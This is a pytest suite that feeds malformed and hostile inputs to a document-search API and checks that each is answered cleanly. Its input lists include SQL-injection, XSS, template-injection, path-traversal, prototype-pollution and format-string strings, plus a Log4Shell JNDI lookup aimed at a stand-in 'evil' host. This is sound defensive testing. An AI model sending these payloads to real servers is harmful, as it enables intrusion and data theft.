"""Values that no page and no client would send, to a real server: each is a plain answer or a problem,
never a fault."""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest
from lines import ask, head
from serving import Server

from visrag.ids import document_id

REPORT = "harrowmere-annual-report.pdf"
BASE = "/v1/collections/samples"
PAGE = f"{BASE}/documents/{document_id(REPORT)}/pages"
ORIGINAL = f"{BASE}/documents/{document_id(REPORT)}/original"
QUESTION = "What does a year pass cost?"
TOO_MUCH = (2**31, 2**63 - 1, 2**63, 2**64, 10**400)

ODD_QUESTIONS = [
    "\x00", "a\x00b", "\x1b[2J", "\u202e\u2066", "\ufeff", "a\u0300" * 500, "🍏" * 2000, "٣ ३ 三", "\ud7ff\ue000\uffff",
    "'; DROP TABLE pages; --", '" OR 1=1', "NEAR(a b)", "a* OR b^2 AND NOT c", "column:value", "{a b} : c", '"',
    "(((", "*", "-",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil/a}", "%s%n%x",
    "../../etc/passwd",
    "a " * 1000, "a" * 2000, "?" * 2000, "\n" * 1999 + "a", "日本語の図書館", "[MASK] [SEP] <pad> </s> <image>",
]  # fmt: skip


@pytest.fixture(scope="module")
def client(served: Server) -> httpx.Client:
    return served.client()


def is_problem(answer: httpx.Response, *statuses: int) -> None:
    """That an answer is a problem of one of these statuses, in its form."""
    assert answer.status_code in statuses, answer.text
    assert answer.headers["Content-Type"] == "application/problem+json"
    told = answer.json()
    assert told["status"] == answer.status_code
    assert told["type"] == f"urn:visrag:problem:{told['code']}"
    assert told["detail"]
    assert len(told["detail"]) <= 2000


# Questions.


@pytest.mark.parametrize("question", ODD_QUESTIONS, ids=range(len(ODD_QUESTIONS)))
def test_an_odd_question_has_an_answer(question: str, client: httpx.Client) -> None:
    asked = {"question": question, "k": 2, "include": ["text", "heatmap"]}
    answers = [client.post(f"{BASE}/search", json={**asked, "rank": rank}) for rank in ("fusion", "maxsim", "fulltext")]
    if len(question) < 1000:
        ways = ("account", "heatmap", "regions", "heatmap.png")
        answers += [client.get(f"{PAGE}/1/{way}", params={"q": question}) for way in ways]
    for answer in answers:
        if not question.strip():
            is_problem(answer, 400)
        else:
            assert answer.status_code == 200, answer.text
    if question.strip():
        assert answers[0].json()["question"] == question


@pytest.mark.parametrize("question", ODD_QUESTIONS[:12])
def test_an_odd_question_can_be_judged_and_exported(question: str, client: httpx.Client) -> None:
    judged = {
        "question": question,
        "document": REPORT,
        "page": 1,
        "verdict": "relevant",
        "note": question,
        "review": "odd",
    }
    answer = client.post(f"{BASE}/feedback", json=judged)
    exported = client.post(f"{BASE}/export", json={"question": question, "pages": [{"document": REPORT, "page": 1}]})
    if not question.strip():
        is_problem(answer, 400)
        is_problem(exported, 400)
        return
    assert (answer.status_code, answer.json()["note"]) == (201, question)
    assert (exported.status_code, exported.content[:5]) == (200, b"%PDF-")
    found = client.get(f"{BASE}/feedback", params={"question": question, "review": "odd"}).json()["feedback"]
    assert [(each["question"], each["note"]) for each in found] == [(question, question)]
    table = client.get(f"{BASE}/feedback/export", params={"review": "odd", "format": "json"})
    assert table.headers["Content-Disposition"] == 'attachment; filename="verdicts.json"'
    assert question in {each["question"] for each in json.loads(table.content)}


def test_a_question_has_a_longest(client: httpx.Client) -> None:
    assert client.post(f"{BASE}/search", json={"question": "é" * 2000}).status_code == 200
    for body in ({"question": "a" * 2001}, {"question": ""}, {"question": " \n"}, {}):
        is_problem(client.post(f"{BASE}/search", json=body), 400, 422)
    for path in (
        f"{BASE}/search",
        f"{PAGE}/1/heatmap",
        f"{PAGE}/1/regions",
        f"{PAGE}/1/account",
        f"{PAGE}/1/heatmap.png",
    ):
        for question in ("a" * 2001, "", " "):
            is_problem(client.get(path, params={"q": question}), 400, 422)
        is_problem(client.get(path), 422)


@pytest.mark.parametrize(
    "query", ["q=%ff%fe", "q=%00", "q=%c3%28", "q=a&tag=%ff=%fe", "q=%u0041", "q=%", "q=%ed%a0%80"]
)
def test_a_query_that_is_no_utf_8_has_an_answer(query: str, served: Server) -> None:
    for path in (f"{BASE}/search", f"{PAGE}/1/heatmap", f"{PAGE}/1/account"):
        status = ask(served.port, head("GET", f"{path}?{query}", "Connection: close")).status
        assert status == 200


# Numbers.


@pytest.mark.parametrize(
    "k", [0, -1, 101, 1000, *TOO_MUCH, "1e9", "1.5", "NaN", "Infinity", "", "true", "１", "0x10", "1_0"]
)
def test_so_many_hits_are_refused(k: object, client: httpx.Client) -> None:
    answer = client.get(f"{BASE}/search", params={"q": QUESTION, "k": str(k)})
    if k in ("１", "1_0"):
        assert answer.status_code in (200, 422)
        return
    is_problem(answer, 400, 422)
    body = f'{{"question": "a", "k": {k if isinstance(k, int) else json.dumps(k)}}}'
    is_problem(client.post(f"{BASE}/search", content=body, headers={"Content-Type": "application/json"}), 400, 422)


@pytest.mark.parametrize("offset", [-1, 100, *TOO_MUCH])
def test_so_far_on_is_refused(offset: int, client: httpx.Client) -> None:
    is_problem(client.get(f"{BASE}/search", params={"q": QUESTION, "offset": str(offset)}), 400, 422)
    for name, value in (("offset", offset), ("limit", offset), ("limit", 0), ("limit", 1001)):
        if not (name == "offset" and 0 <= value < 2**31) and not (name == "limit" and 0 < value < 1001):
            is_problem(client.get(f"{BASE}/documents", params={name: str(value)}), 422)


@pytest.mark.parametrize("page", ["0", "-1", "1.5", "1e0", "a", "%00", "%20", "NaN", "21", *map(str, TOO_MUCH)])
def test_a_page_that_cannot_be_is_not_found(page: str, client: httpx.Client) -> None:
    for what in ("", "/image", "/heatmap?q=a", "/heatmap.png?q=a", "/regions?q=a", "/account?q=a", "/crop?box=0,0,1,1"):
        is_problem(client.get(f"{PAGE}/{page}{what}"), 404, 422)
    number: Any = int(page) if page.lstrip("-").isdecimal() else page
    judged = {"question": "a", "document": REPORT, "page": number, "verdict": "relevant"}
    is_problem(client.post(f"{BASE}/feedback", json=judged), 404, 422)
    is_problem(
        client.post(f"{BASE}/export", json={"question": "a", "pages": [{"document": REPORT, "page": number}]}), 404, 422
    )


@pytest.mark.parametrize(
    "box",
    ["", "0,0,1", "0,0,1,1,1", "a,b,c,d", "NaN,0,1,1", "0,0,inf,1", "-1,0,1,1", "0,0,1,2", "0,0,0,0", "1,1,0,0",
    "0,0,1e999,1",
     "0,0,5e-324,0", "0 0 1 1", "0;0;1;1", "0,0,1,1" * 50],
)  # fmt: skip
def test_a_box_that_is_none_is_refused(box: str, client: httpx.Client) -> None:
    is_problem(client.get(f"{PAGE}/1/crop", params={"box": box}), 400, 422)


@pytest.mark.parametrize("box", ["0,0,5e-324,5e-324", "0,0,1e-12,1", "0.5,0.5,0.50000001,0.50000001", "0,0,1,1"])
def test_a_part_of_a_page_stays_within_its_pixels(box: str, client: httpx.Client) -> None:
    answer = client.get(f"{PAGE}/1/crop", params={"box": box, "side": 3000})
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Type"] == "image/png"
    width, height = (int.from_bytes(answer.content[at : at + 4], "big") for at in (16, 20))
    assert 1 <= width <= 3000
    assert 1 <= height <= 6000


@pytest.mark.parametrize(
    "params",
    [{"side": 63}, {"side": 3001}, {"side": 2**63}, {"side": "NaN"}, {"word": -1}, {"word": 10_001}, {"word": 99},
    {"word": 2**70},
     {"token": "not in it"}, {"token": "a" * 201}, {"token": ""}],
)  # fmt: skip
def test_a_picture_that_cannot_be_is_refused(params: dict[str, object], client: httpx.Client) -> None:
    is_problem(client.get(f"{PAGE}/1/heatmap.png", params={"q": QUESTION, **params}), 400, 422)  # type: ignore[dict-item]


@pytest.mark.parametrize(
    "params",
    [{"rank": "best"}, {"include": "image,all"}, {"include": "x" * 51}, {"tag": "a"}, {"tag": "=a"},
    {"tag": "a" * 1201},
     {"document": ""}, {"document": "a" * 1001}, {"document": ["a"] * 1001}, {"tag": ["a=b"] * 101}],
)  # fmt: skip
def test_filters_that_cannot_be_are_refused(params: dict[str, Any], client: httpx.Client) -> None:
    is_problem(client.get(f"{BASE}/search", params={"q": QUESTION, **params}), 400, 422, 431)


@pytest.mark.parametrize(
    "tag", ["a\x00=b", "$.a[*]=b", '"=\'"', "a=b=c", "a=%", "kind=", "kind=*", "'; DROP TABLE pages; --=1"]
)
def test_tags_that_no_document_has_find_nothing(tag: str, client: httpx.Client) -> None:
    for rank in ("fusion", "maxsim", "fulltext"):
        answer = client.get(f"{BASE}/search", params={"q": QUESTION, "rank": rank, "tag": tag})
        assert (answer.status_code, answer.json()["hits"]) == (200, [])


@pytest.mark.parametrize("document", ["'; DROP TABLE pages; --", "\x00", "%", "*", "../index.db", "\ufffd"])
def test_a_document_that_is_not_there_is_not_found(document: str, client: httpx.Client) -> None:
    for rank in ("fusion", "maxsim", "fulltext"):
        is_problem(client.get(f"{BASE}/search", params={"q": QUESTION, "rank": rank, "document": document}), 404)


# JSON.


WRONG = [
    b"",
    b"{",
    b"null",
    b"[]",
    b"1",
    b'"a"',
    b"NaN",
    b"{}",
    b"\xff\xfe",
    b'{"question": "\xff"}',
    b'{"question": NaN}',
    b'{"question": Infinity}',
    b'{"question": 1e999}',
    b'{"question": "\\ud800"}',
    b'{"question": "a", "\\ud800": 1}',
    b'{"question": "a", "tags": {"\\udfff": "b"}}',
    b'{"question": "a", "tags": {"a": NaN}}',
    b'{"question": "a", "k": 1e999}',
    b'{"question": "a", "k": -Infinity}',
    b'{"question": "a", "k": ' + b"9" * 5000 + b"}",
    b"[" * 100_000,
    b'{"a":' * 50_000,
    b'{"question": ' + b"[" * 900_000,
    b'{"question": "a", "unknown": 1}',
    b'{"question": ["a"]}',
    b'{"question": {"a": "b"}}',
    b'{"question": true}',
    b'{"question": 5}',
    b'{"question": "a", "documents": "b"}',
    b'{"question": "a", "documents": [1]}',
    b'{"question": "a", "documents": [""]}',
    b'{"question": "a", "tags": [["a", "b"]]}',
    b'{"question": "a", "tags": {"a": null}}',
    b'{"question": "a", "tags": {"": "b"}}',
    b'{"question": "a", "include": "image"}',
    b'{"question": "a", "include": ["x"]}',
    b'{"question": "a", "k": true}',
    b'{"question": "a", "documents": [' + b'"a",' * 1000 + b'"b"]}',
    b'{"question": "a", "' + b"x" * 900_000 + b'": 1}',
    b'{"__proto__": {"admin": true}}',
    b'{"question": "a", "pages": []}',
    b'{"uri": 5}',
    b'{"uri": "a", "options": {"link": true}}',
]


@pytest.mark.parametrize("path", ["search", "feedback", "export", "documents/from-uri"])
@pytest.mark.parametrize("body", WRONG, ids=range(len(WRONG)))
def test_json_that_is_wrong_is_refused(body: bytes, path: str, client: httpx.Client) -> None:
    for kind in ("application/json", "text/plain", "application/x-www-form-urlencoded", ""):
        answer = client.post(f"{BASE}/{path}", content=body, headers={"Content-Type": kind})
        is_problem(answer, 400, 403, 422)


def test_json_is_only_read_where_it_is_called_so(client: httpx.Client) -> None:
    """A form on another site's page can send text, not JSON."""
    body = json.dumps({"question": QUESTION})
    for kind in (
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/xml",
    ):
        is_problem(client.post(f"{BASE}/search", content=body, headers={"Content-Type": kind}), 422)


@pytest.mark.parametrize(
    "change",
    [{"document": "none.pdf"}, {"document": ""}, {"document": "a" * 1001}, {"document": "../index.db"},
    {"verdict": "maybe"},
     {"verdict": 1}, {"note": "a" * 10_001}, {"note": None}, {"review": "a" * 201}, {"reviewer": "a" * 201},
     {"page": "1"},
     {"page": True}, {"page": 1.5}, {"time": 0}],
)  # fmt: skip
def test_a_verdict_that_cannot_be_is_refused(change: dict[str, Any], client: httpx.Client) -> None:
    before = client.get(f"{BASE}/feedback").json()
    judged = {"question": QUESTION, "document": REPORT, "page": 1, "verdict": "relevant", **change}
    is_problem(client.post(f"{BASE}/feedback", json=judged), 404, 422)
    assert client.get(f"{BASE}/feedback").json() == before


def test_an_export_has_an_end(client: httpx.Client) -> None:
    page = {"document": REPORT, "page": 1}
    is_problem(client.post(f"{BASE}/export", json={"question": "a", "pages": [page] * 201}), 422)
    assert client.post(f"{BASE}/export", json={"question": "a", "pages": [page] * 200}).status_code in (200, 400, 422)


# Methods and headers.


@pytest.mark.parametrize(
    "method", ["HEAD", "OPTIONS", "PUT", "PATCH", "TRACE", "CONNECT", "PROPFIND", "get", "X" * 100]
)
def test_a_method_that_is_not_offered_is_refused(method: str, served: Server) -> None:
    for path in ("/v1/health", f"{BASE}/search?q=a", ORIGINAL, f"{PAGE}/1", "/v1/collections", "/"):
        answer = ask(served.port, head(method, path, "Connection: close"))
        assert (path, answer.status) in [(path, 405), (path, 400)]
        assert "access-control-allow-origin" not in answer.headers
        assert answer.headers.get("x-content-type-options") == "nosniff"


@pytest.mark.parametrize("path", ["/v1", "/v1/", "/v2/health", "/docs", "/redoc", "/openapi.json", "/v1/health/",
    "/.git/config", "/index.html",
                                  "/v1/collections/samples", "/%00", "/%ff",
                                  "/v1/collections/samples/documents/"])  # fmt: skip
def test_what_is_not_there_is_not_found(path: str, client: httpx.Client) -> None:
    answer = client.get(path)
    is_problem(answer, 404)
    assert "Location" not in answer.headers


def test_a_part_of_the_original_can_be_had(client: httpx.Client) -> None:
    whole = client.get(ORIGINAL)
    size = len(whole.content)
    assert whole.headers["Accept-Ranges"] == "bytes"
    for asked, start, end in (
        ("bytes=0-99", 0, 100),
        ("bytes=-100", size - 100, size),
        (f"bytes={size - 1}-", size - 1, size),
    ):
        part = client.get(ORIGINAL, headers={"Range": asked})
        assert (part.status_code, part.content) == (206, whole.content[start:end])
        assert part.headers["Content-Range"] == f"bytes {start}-{end - 1}/{size}"
        assert part.headers["Content-Type"] == "application/pdf"
    same = client.get(ORIGINAL, headers={"Range": "bytes=0-9", "If-Range": whole.headers["ETag"]})
    assert same.status_code == 206
    other = client.get(ORIGINAL, headers={"Range": "bytes=0-9", "If-Range": '"other"'})
    assert (other.status_code, len(other.content)) == (200, size)


@pytest.mark.parametrize(
    "asked",
    ["bytes=99999999-", "bytes=5-1", "bytes=a-b", "bytes=", "bytes=-", "bytes=--1", "bytes=0-0,", "lines=0-1",
    "bytes", "\x00", "bytes=-0",
     "bytes=" + "9" * 5000 + "-", "bytes=0-" + "9" * 4000, "bytes=" + ",".join(f"{n}-{n}" for n in range(3000)),
     "bytes=" + ",".join(["0-"] * 8000), "bytes=" + "0-1," * 7000 + "x"],
)  # fmt: skip
def test_a_range_that_cannot_be_is_refused_or_passed_over(asked: str, served: Server, client: httpx.Client) -> None:
    size = len(client.get(ORIGINAL).content)
    answer = ask(served.port, head("GET", ORIGINAL, f"Range: {asked}", "Connection: close"))
    assert answer.status in (200, 206, 400, 416, 431)
    assert len(answer.body) <= size + 3000 * 200


def test_a_picture_that_is_known_is_not_sent_again(client: httpx.Client) -> None:
    first = client.get(f"{PAGE}/1/image", params={"side": 300})
    etag = first.headers["ETag"]
    for asked in (etag, f"W/{etag}", f'"other", {etag}', f'{etag}, "other"'):
        again = client.get(f"{PAGE}/1/image", params={"side": 300}, headers={"If-None-Match": asked})
        assert (again.status_code, again.content, again.headers["ETag"]) == (304, b"", etag)
    for asked in ('"other"', "", "x" * 5000, etag[:-5] + '"'):
        again = client.get(f"{PAGE}/1/image", params={"side": 300}, headers={"If-None-Match": asked})
        assert (again.status_code, again.content) == (200, first.content)
    larger = client.get(f"{PAGE}/1/image", params={"side": 301}, headers={"If-None-Match": etag})
    assert (larger.status_code, larger.headers["ETag"] != etag) == (200, True)
    assert "private" in first.headers["Cache-Control"]


def test_nothing_of_the_api_is_kept_by_a_proxy(client: httpx.Client) -> None:
    for path in (
        f"{BASE}/search?q=a",
        f"{BASE}/documents",
        "/v1/session",
        f"{BASE}/feedback/export",
        ORIGINAL,
        f"{PAGE}/1/crop?box=0,0,1,1",
    ):
        control = client.get(path).headers["Cache-Control"]
        assert "no-store" in control or "private" in control


def test_the_server_is_well_after_all_this(served: Server, client: httpx.Client) -> None:
    found = client.get(f"{BASE}/search", params={"q": QUESTION})
    assert found.json()["hits"][0]["document"] == REPORT
    assert "Traceback" not in served.log
    assert " 500 " not in served.log
